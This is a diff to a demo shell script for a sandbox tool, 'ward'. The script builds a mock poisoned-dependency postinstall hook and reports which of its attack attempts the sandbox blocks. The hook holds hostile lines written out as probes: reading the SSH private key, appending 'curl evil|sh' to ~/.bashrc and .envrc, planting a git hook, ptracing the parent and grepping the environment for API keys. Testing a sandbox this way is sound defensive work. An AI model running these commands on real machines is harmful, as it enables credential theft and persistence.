@@ -15,11 +15,14 @@ echo 'console.log("hello")' > "$demo/project/index.js"
 # A host to try: the npm registry this machine is configured with (or a documentation address).
 host=$(npm config get registry 2>/dev/null | sed -E 's#^[a-z]+://([^/:]+).*#\1#')
 [ -n "$host" ] || host=192.0.2.1
+addr=$(getent ahostsv4 "$host" 2>/dev/null | awk 'NR==1 {print $1}')
+[ -n "$addr" ] || addr=192.0.2.1
 
 cat > "$demo/project/postinstall.sh" <<'SCRIPT'
 #!/bin/sh
 # What a poisoned dependency would try. Each line prints what happened.
 try() { label=$1; shift; if out=$("$@" 2>&1); then echo "  [ESCAPED] $label: $out"; else echo "  [blocked] $label: $(echo "$out" | tail -1)"; fi; }
+allowed() { label=$1; shift; if out=$("$@" 2>&1); then echo "  [allowed] $label: $out"; else echo "  [failed]  $label: $(echo "$out" | tail -1)"; fi; }
 echo "inside: uid=$(id -u) host=$(hostname) pid=$$ cwd=$(pwd)"
 try "read ~/.ssh/id_ed25519      " cat "$HOME/.ssh/id_ed25519"
 try "list ~/.ssh                 " ls "$HOME/.ssh"
@@ -28,11 +31,11 @@ try "write /etc/ward-demo        " sh -c 'echo pwned > /etc/ward-demo'
 try "plant ~/.bashrc on the host " sh -c 'echo "curl evil|sh" >> ~/.bashrc && echo "(written to the private HOME, gone after the run)" && false'
 try "plant a git hook            " sh -c 'mkdir -p .git/hooks 2>&1 && echo x > .git/hooks/pre-commit'
 try "create .envrc               " sh -c 'echo "curl evil|sh" > .envrc'
-try "reach $NET_HOST:443  " sh -c "exec 3<>/dev/tcp/$NET_HOST/443" 2>/dev/null || true
+try "connect to $NET_ADDR:443 " python3 -c "import socket,sys; socket.create_connection((sys.argv[1], 443), timeout=3); print('connected')" "$NET_ADDR"
 try "connect with curl           " curl -sS --max-time 3 -o /dev/null "https://$NET_HOST/"
 try "ptrace the parent           " sh -c 'command -v strace >/dev/null || { echo "(no strace; using gdb-free probe)"; python3 -c "import ctypes,os; r=ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0); e=ctypes.get_errno(); print(\"ptrace:\", r, os.strerror(ctypes.get_errno())); exit(0 if r==0 else 1)"; exit $?; }; strace -p $PPID -o /dev/null'
 try "see the API key in env      " sh -c 'env | grep -i api_key || { echo "not in the environment"; false; }'
-try "write the workspace         " sh -c 'echo built > build.txt && echo "build.txt written (allowed: it is the workspace)"'
+allowed "write the workspace         " sh -c 'echo built > build.txt && echo "build.txt written (allowed: it is the workspace)"'
 SCRIPT
 chmod +x "$demo/project/postinstall.sh"
 
@@ -42,9 +45,9 @@ echo
 echo "== running postinstall.sh under 'ward run' (profile: default)"
 cd "$demo/project"
 env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$demo/home" TERM="${TERM:-dumb}" \
-    ANTHROPIC_API_KEY=sk-demo-secret NET_HOST="$host" \
+    ANTHROPIC_API_KEY=sk-demo-secret NET_HOST="$host" NET_ADDR="$addr" \
     XDG_STATE_HOME="$demo/state" \
-    "$WARD" run -e NET_HOST -- ./postinstall.sh
+    "$WARD" run -e NET_HOST -e NET_ADDR -- ./postinstall.sh
 echo "ward exit status: $?"
 echo
 echo "== afterwards, on the host"
